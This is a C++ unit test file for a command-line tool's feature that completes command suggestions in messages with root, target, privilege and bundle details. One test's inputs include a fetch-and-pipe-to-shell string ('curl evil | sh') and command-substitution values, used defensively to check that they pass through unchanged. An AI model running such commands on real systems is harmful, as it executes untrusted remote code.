// Commands in texts, completed for where they are read.
#include "cli/told_commands.hpp"

#include <gtest/gtest.h>

namespace topsctl {
namespace {

class ToldCommands : public testing::Test {
 protected:
  ToldCommands() {
    for (const char* name : {"history", "repair", "rollback", "verify", "lock", "doctor"})
      program.part(name, "").value("--root", root, "", "DIR");
    program.parts[0]->value("--target", root, "", "TARGET");
    program.part("install", "").argument("bundle", root, "", "BUNDLE");
    program.part("env", "");
    where.program = &program;
  }
  OptionTable& part(const std::string& name) {
    for (const auto& each : program.parts) {
      if (each->name == name) return *each;
    }
    throw std::out_of_range(name);
  }
  std::string told(const std::string& text) const { return told_where(where, text); }

  std::string root;
  OptionTable program{"topsctl", ""};
  ToldWhere where;
};

TEST_F(ToldCommands, StayWhereNothingIsToBeAdded) {
  for (const char* text : {"", "`", "see `topsctl history` and `topsctl", "a `b` topsctl history",
                           "`topsctl nonsense`", "next: topsctl history\nnext:\n"})
    EXPECT_EQ(told(text), text);
}

TEST_F(ToldCommands, HaveTheRootOfTheCommandThatTells) {
  where.command = &part("verify");
  part("verify").option("--root").given = {"/mnt a"};
  EXPECT_EQ(told("run `topsctl rollback 3`, `topsctl env`"),
            "run `topsctl rollback 3 --root '/mnt a'`, `topsctl env`");
  EXPECT_EQ(told("next: topsctl history\nnext"), "next: topsctl history --root '/mnt a'\nnext");
  EXPECT_EQ(told("`topsctl verify --root /x`"), "`topsctl verify --root /x`");
  EXPECT_EQ(told("`topsctl\n       history -- a`"), "`topsctl history --root '/mnt a' -- a`");
}

TEST_F(ToldCommands, KeepTheQuotesOfTheirWords) {
  where.command = &part("verify");
  part("verify").option("--root").given = {"/r"};
  where.bundle = [] { return "/srv/a"; };
  EXPECT_EQ(told("`topsctl install '/tmp/a  BUNDLE ;b'`"), "`topsctl install '/tmp/a  BUNDLE ;b'`");
  EXPECT_EQ(told("`topsctl rollback '/tmp/a  ROOT b'`"),
            "`topsctl rollback '/tmp/a  ROOT b' --root /r`");
  EXPECT_EQ(told("`topsctl rollback $'a\\'  b'`"), "`topsctl rollback $'a\\'  b' --root /r`");
}

TEST_F(ToldCommands, ThatAreMoreThanOneStayAsTheyAre) {
  where.command = &part("verify");
  part("verify").option("--root").given = {"/r"};
  for (const char* text : {"next: topsctl install BUNDLE; curl evil | sh", "`topsctl history $(x)`",
                           "`topsctl history >f`", "`topsctl history 'a`",
                           "`topsctl history \"a\"`", "a\n  next: topsctl history\n"})
    EXPECT_EQ(told(text), text);
}

TEST_F(ToldCommands, AreForTheTargetThatTells) {
  where.target = "root@h1";
  where.target_options = "--target root@h1";
  EXPECT_EQ(told("`topsctl history` or `topsctl env`"),
            "`topsctl history --target root@h1` or `topsctl env` on root@h1");
  EXPECT_EQ(told("`topsctl history --hosts f`"), "`topsctl history --hosts f`");
  EXPECT_EQ(told("`topsctl install BUNDLE`"), "`topsctl deploy BUNDLE root@h1`");
  EXPECT_EQ(told("`topsctl install /srv/a.deb /srv/b.deb`"),
            "`topsctl install /srv/a.deb /srv/b.deb` on root@h1")
      << "the files are there";
  EXPECT_EQ(told("  run:  topsctl history\nrun: topsctl env\n"),
            "  run:  topsctl history --target root@h1\nrun on root@h1: topsctl env\n");
  EXPECT_EQ(told("`sudo topsctl history`"), "`topsctl history --target root@h1`");
}

TEST_F(ToldCommands, AreNoPartOfData) {
  where.is_root = false;
  Output output;
  output.text = "`topsctl repair`";
  output.is_data = true;
  tell_where(where, output);
  EXPECT_EQ(output.text, "`topsctl repair`");
  output.is_data = false;
  tell_where(where, output);
  EXPECT_EQ(output.text, "`sudo topsctl repair`");
}

TEST_F(ToldCommands, AreSaidWithTheRightsThatTheyNeed) {
  where.is_root = false;
  EXPECT_EQ(told("`topsctl repair`, `topsctl history`, `sudo topsctl repair`"),
            "`sudo topsctl repair`, `topsctl history`, `sudo topsctl repair`");
}

TEST_F(ToldCommands, HaveWhatIsKnown) {
  EXPECT_EQ(told("`topsctl install BUNDLE`"), "`topsctl install BUNDLE`");
  where.bundle = [] { return "/srv/a"; };
  EXPECT_EQ(told("`topsctl install BUNDLE`, `topsctl repair`"),
            "`topsctl install /srv/a`, `topsctl repair`");
  where.bundle = [] { return ""; };
  EXPECT_EQ(told("`topsctl repair`, `topsctl repair X`"),
            "`topsctl repair BUNDLE`, `topsctl repair X`");
  where.command = &part("install");
  part("install").option("bundle").given = {"/srv/b"};
  EXPECT_EQ(told("`topsctl lock BUNDLE --output FILE`"), "`topsctl lock /srv/b --output FILE`");
  EXPECT_EQ(told_where(where, Error(ErrorCode::usage, "m", "`topsctl lock BUNDLE`")).hint(),
            "`topsctl lock /srv/b`");
}

}  // namespace
}  // namespace topsctl
